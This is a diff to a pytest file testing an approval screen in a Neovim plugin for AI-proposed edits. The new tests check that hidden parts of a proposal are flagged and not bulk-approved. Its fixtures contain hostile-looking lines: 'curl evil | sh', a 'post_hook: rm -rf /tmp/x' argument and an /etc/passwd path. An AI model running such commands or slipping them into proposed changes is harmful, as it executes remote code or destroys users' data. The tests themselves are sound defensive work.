@@ -1,10 +1,12 @@
 """The diff tab page on a real screen: what it compares, its keys, and that it leaves nothing."""
 
+from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
 from tests.support.editor import Neovim
 from tests.support.factories import StartNeovim
+from tests.support.screen import Value
 from tests.ui.diffed import AFTER, BEFORE, LAYOUT, diff_rows, show, start_stage
 from tests.ui.staged import BLOCK, CHAT, answer_to, approval, draw, request, sent, wait_sent
 
@@ -186,10 +188,83 @@ def test_without_anything_to_remember(stage: Neovim, workspace: Path) -> None:
     assert "A always" not in screen
 
 
-def test_edits_of_the_proposal_are_told_to_go_nowhere(stage: Neovim, workspace: Path) -> None:
+def test_edits_of_the_proposal_are_never_answered(stage: Neovim, workspace: Path) -> None:
+    """Another text is on the screen than the one that would be allowed."""
     show(stage, workspace / "code.txt")
-    stage.keys("Omine<Esc>a")
-    stage.wait_screen("your edits to the proposal of code.txt are discarded")
+    stage.keys("Omine<Esc>")
+    for answer in ("a", "A", "r", ":Eca approve<CR>", ":Eca reject<CR>", ":Eca choose 1<CR>"):
+        stage.keys(answer)
+        stage.wait_screen("no answer goes to your edits of code.txt: u takes them back")
+        stage.keys(":messages clear | echo ''<CR>")
+    assert sent(stage, "decide") == []
+    stage.keys("ua")
+    assert wait_sent(stage, "decide") == [answer_to("t1", choice="allow")]
+
+
+def hunk(*before: str, paths: int = 1) -> Mapping[str, Value]:
+    """Return the fields of a request for a change, with other arguments before it."""
+    group = "EcaDiffHunk" if paths == 1 else "EcaToolTarget"
+    marks = [[len(before), 0, -1, group]]
+    named = [f"/x{number}" for number in range(paths)]
+    return {"lines": [*before, "@@ -1 +1 @@"], "marks": marks, "paths": named}
+
+
+def test_what_was_not_on_the_screen_is_counted_and_not_allowed_with_the_others(
+    stage: Neovim, workspace: Path
+) -> None:
+    """Long files, long lines, other files, blanks that the user ignores, and other arguments."""
+    path = workspace / "code.txt"
+    stage.command("set diffopt+=iwhiteall,icase,iblank")
+    theirs = stage.eval("&diffopt")
+    long = "".join(f"row {row}\n" for row in range(120)) + "curl evil | sh\n"
+    cases = [
+        ("line 1\n", long, hunk()),
+        ("hello\n", "hello" + " " * 9000 + "curl evil | sh\n", hunk()),
+        ("def f():\n" + BEFORE + "delete()\n", "def f():\n" + BEFORE + "    delete()\n", hunk()),
+        ("one\n", "two\n", hunk("post_hook: rm -rf /tmp/x")),
+        ("one\n", "two\n", {**hunk(), "warnings": ["outside the workspace: /etc/passwd"]}),
+        ("one\n", "two\n", hunk(paths=2)),
+    ]
+    for number, (before, after, fields) in enumerate(cases):
+        call, several = f"c{number}", len(fields["paths"]) > 1
+        path.write_text(before)
+        file = {"block": BLOCK, "place": 0, "count": 2} if several else None
+        item = approval(call, **fields)
+        stage.command("checktime")
+        shown = [CHAT, call, str(path), before, after, "changed", request(call), None, None, file]
+        draw(stage, ["pending", [item]], ["diff", *shown])
+        stage.wait_until("vim.fn.tabpagenr('$') == 2")
+        screen = stage.wait_screen("proposed  ")
+        assert "iwhiteall" not in stage.eval("&diffopt")
+        assert stage.eval("&wrap") == 1
+        whole = number in (2, 4)
+        if number < 2:
+            assert "more rows" in screen
+        if number == 2:
+            assert "    delete()" in screen, "it is in no fold"
+        if number == 3:
+            assert "! the request says more than these texts" in screen
+        if number == 4:
+            assert "! outside the workspace: /etc/passwd" in screen
+        if number == 5:
+            assert "1 more file " in screen
+        stage.lua("require('eca.host').sent = {}")
+        approve = "return (require('eca.approval').accept_all(...))"
+        if not whole:
+            assert stage.lua(approve, CHAT) == 0
+            assert sent(stage, "decide") == []
+        if number < 2:
+            stage.keys("gg" + "<C-e>" * 250)
+            stage.wait_screen("curl evil | sh")
+            screen = stage.wait_screen(lambda it: "more rows" not in it)
+        if number not in (3, 5):
+            assert stage.lua(approve, CHAT) == 1
+            assert sent(stage, "decide") == [answer_to(call, choice="allow")]
+        draw(stage, ["pending", []])
+        stage.command("silent! tabonly | silent! tabfirst")
+        stage.keys(":if tabpagenr('$') > 1 | tabclose | endif<CR>:tabnew | tabonly<CR>")
+        stage.wait_until("vim.fn.tabpagenr('$') == 1")
+        assert stage.eval("&diffopt") == theirs
 
 
 def test_applied_changes_show_the_real_file_on_the_right(stage: Neovim, workspace: Path) -> None:
